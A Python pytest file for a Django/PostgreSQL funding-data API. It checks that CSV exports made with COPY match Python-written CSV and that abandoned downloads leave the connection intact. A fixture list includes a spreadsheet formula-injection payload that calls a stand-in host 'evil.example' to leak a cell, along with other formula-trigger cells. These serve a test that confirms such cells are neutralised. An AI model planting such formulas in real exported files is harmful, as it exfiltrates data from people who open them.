"""The line items' CSV written by PostgreSQL (COPY) is byte for byte the CSV written in Python, and a
reader who leaves early leaves the connection as it was."""

import threading

import psycopg2.extensions
import pytest
from django.core.management import call_command
from django.core.signals import request_finished
from django.db import OperationalError, close_old_connections, connection
from django.test.utils import CaptureQueriesContext
from rest_framework.test import APIClient

from bench import run
from core import csv_copy
from funding.models import Allocation
from releases.models import Release

pytestmark = [
    pytest.mark.django_db,
    pytest.mark.skipif(connection.vendor != "postgresql", reason="COPY is PostgreSQL's"),
]

URL = "/api/v1/allocations/"
# Cells a spreadsheet would run, cells that are only numbers, and cells the csv module quotes.
TRICKY_NOTES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1 (502) 555-0100",
    "-5",
    "-12.50",
    "-1e5",
    "-5\n",
    "-٣",
    "--5",
    "-.5",
    "=",
    "@SUM(A1:A9)",
    "\tindented",
    "\rcarriage",
    "a note, with a comma",
    'a "quoted" word',
    "two\nlines",
    "two\r\nlines",
    "",
    " ",
    "año fiscal – 2012",
]


def body(response) -> bytes:
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="allocations.csv"'
    assert not response.has_header("Content-Length")
    return b"".join(response.streaming_content)


@pytest.fixture
def both(monkeypatch):
    """The CSV of a request twice: as PostgreSQL writes it, then as Python writes it."""

    def get(params, **headers):
        client = APIClient()
        copied = body(client.get(URL, params, **headers))
        with monkeypatch.context() as python:
            python.setattr("funding.api.views.copies_csv", lambda using: False)
            written = body(client.get(URL, params, **headers))
        return copied, written

    return get


def copy_threads() -> int:
    return sum(thread.name == "csv-copy" for thread in threading.enumerate())


def leave(response):
    """What a server does when the reader goes away: it closes the response. (The end of the request
    would close the connection of the test's transaction: the test client holds that back too.)"""
    request_finished.disconnect(close_old_connections)
    try:
        response.close()
    finally:
        request_finished.connect(close_old_connections)


def test_every_seed_line_item_is_the_same_bytes(both):
    copied, written = both({"format": "csv"})
    assert copied == written
    assert copied.count(b"\r\n") == 1 + 54
    assert b",Regional / no country," in copied


@pytest.mark.parametrize(
    "params",
    [
        {"stage": "appropriated", "country": "GT"},
        {"stage": "disbursed", "country": "GT,regional", "ordering": "-amount"},
        {"account": "none", "program": "none"},
        {"search": "counterterrorism", "fiscal_year_min": "2010"},
        {"country": "HN", "stage": "requested"},  # nothing: the header alone
    ],
)
def test_a_filtered_csv_is_the_same_bytes(both, params):
    copied, written = both({**params, "format": "csv"})
    assert copied == written


def test_a_cell_a_spreadsheet_would_run_is_guarded_alike(both):
    items = list(Allocation.objects.order_by("id")[: len(TRICKY_NOTES)])
    for item, note in zip(items, TRICKY_NOTES, strict=True):
        item.note = note
        item.save()
    items[0].source_detail = "=1+1"
    items[0].save()
    copied, written = both({"format": "csv"})
    assert copied == written
    assert b',"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")",' in copied
    assert b",'+1 (502) 555-0100," in copied and b",-5," in copied and b",-12.50," in copied
    assert b",'-1e5," in copied and b",'@SUM(A1:A9)," in copied and b",'=1+1," in copied
    assert b',"two\nlines",' in copied and b',"two\r\nlines",' in copied


def test_the_spanish_header_and_the_byte_order_mark_are_the_same(both):
    copied, written = both({"format": "csv", "lang": "es", "bom": "1", "country": "regional"})
    assert copied == written
    assert copied.startswith("\ufeffid,año_fiscal,etapa,".encode())


def test_the_cells_are_english_whatever_language_the_reader_prefers(both):
    copied, written = both({"format": "csv"}, HTTP_ACCEPT_LANGUAGE="es")
    assert copied == written
    assert b",Regional / no country," in copied


def test_a_release_is_the_same_bytes_as_it_stood(both):
    first = Release.objects.get(number=1)
    item = Allocation.objects.get(fiscal_year=2012, stage="appropriated", account__code="INCLE")
    item.note = "=changed after the release"
    item.save()
    copied, written = both({"format": "csv", "release": first.name})
    assert copied == written
    assert b"changed after the release" not in copied
    today, _ = both({"format": "csv"})
    assert b"'=changed after the release" in today


def test_the_line_items_are_read_by_one_query_the_copy():
    with CaptureQueriesContext(connection) as captured:
        body(APIClient().get(URL, {"format": "csv", "stage": "disbursed"}))
    reads = [query["sql"] for query in captured.captured_queries if "funding_allocation" in query["sql"]]
    assert len(reads) == 1
    assert reads[0].startswith("COPY (SELECT ") and reads[0].endswith(") TO STDOUT WITH (FORMAT csv)")


def ten_million_rows():
    return csv_copy.copy_csv("n.csv", ["n"], ("SELECT generate_series(1, 10000000)", []))


def test_leaving_a_long_copy_cancels_it_inside_a_transaction():
    response = ten_million_rows()
    chunks = iter(response.streaming_content)
    assert next(chunks) == b"n\r\n1\r\n"
    assert next(chunks).startswith(b"2\r\n3\r\n")
    leave(response)
    assert copy_threads() == 0
    # The test's own transaction goes on: the cancelled COPY was rolled back to its savepoint.
    assert Allocation.objects.count() == 54


@pytest.fixture
def kept_connection():
    """The connection of this thread, which the end of a request keeps as a server does (however
    old it is), unless it is unusable."""
    connection.ensure_connection()
    connection.close_at = None
    return connection.connection


def assert_as_it_was(raw):
    assert copy_threads() == 0
    assert connection.connection is raw and not raw.closed
    assert raw.get_transaction_status() == psycopg2.extensions.TRANSACTION_STATUS_IDLE
    with connection.cursor() as cursor:
        cursor.execute("SELECT current_setting('statement_timeout'), current_setting('jit')")
        assert cursor.fetchone() == ("30s", "off")


@pytest.mark.django_db(transaction=True)
def test_a_reader_who_leaves_after_the_first_chunk_leaves_the_connection_usable(monkeypatch, kept_connection):
    call_command("load_seed", verbosity=0)  # a test of its own transactions starts from no data
    # One row a chunk, one chunk queued: the COPY is still under way when the reader leaves.
    monkeypatch.setattr(csv_copy, "ROWS_PER_CHUNK", 1)
    monkeypatch.setattr(csv_copy, "QUEUED_CHUNKS", 1)
    response = APIClient().get(URL, {"format": "csv"})
    first = next(iter(response.streaming_content))
    assert first.startswith(b"id,fiscal_year,") and first.count(b"\r\n") == 2
    response.close()
    assert_as_it_was(kept_connection)
    assert body(APIClient().get(URL, {"format": "csv"})).count(b"\r\n") == 1 + 54
    # A COPY cancelled while the database still writes it.
    response = ten_million_rows()
    assert next(iter(response.streaming_content)) == b"n\r\n1\r\n"
    response.close()
    assert_as_it_was(kept_connection)


def test_a_copy_without_a_first_row_within_the_statement_timeout_fails():
    with connection.cursor() as cursor:
        cursor.execute("SET statement_timeout = 200")
    response = csv_copy.copy_csv("slow.csv", ["n"], ("SELECT 1 FROM pg_sleep(5)", []))
    with pytest.raises(OperationalError, match="canceling statement"):
        b"".join(response.streaming_content)
    assert copy_threads() == 0
    with connection.cursor() as cursor:
        cursor.execute("SHOW statement_timeout")
        assert cursor.fetchone()[0] == "200ms"


@pytest.mark.django_db(transaction=True)  # as the bench runs: no transaction around its requests
def test_the_bench_times_the_very_statement_the_download_runs():
    call_command("load_seed", verbosity=0)
    seconds, statement = run.bare_copy_seconds(URL, {"format": "csv", "country": "GT"})
    assert seconds > 0
    assert statement.startswith("COPY (SELECT ") and "partners_country" in statement
    with connection.cursor() as cursor:
        cursor.execute("SELECT current_setting('statement_timeout'), current_setting('jit')")
        assert cursor.fetchone() == ("30s", "off")
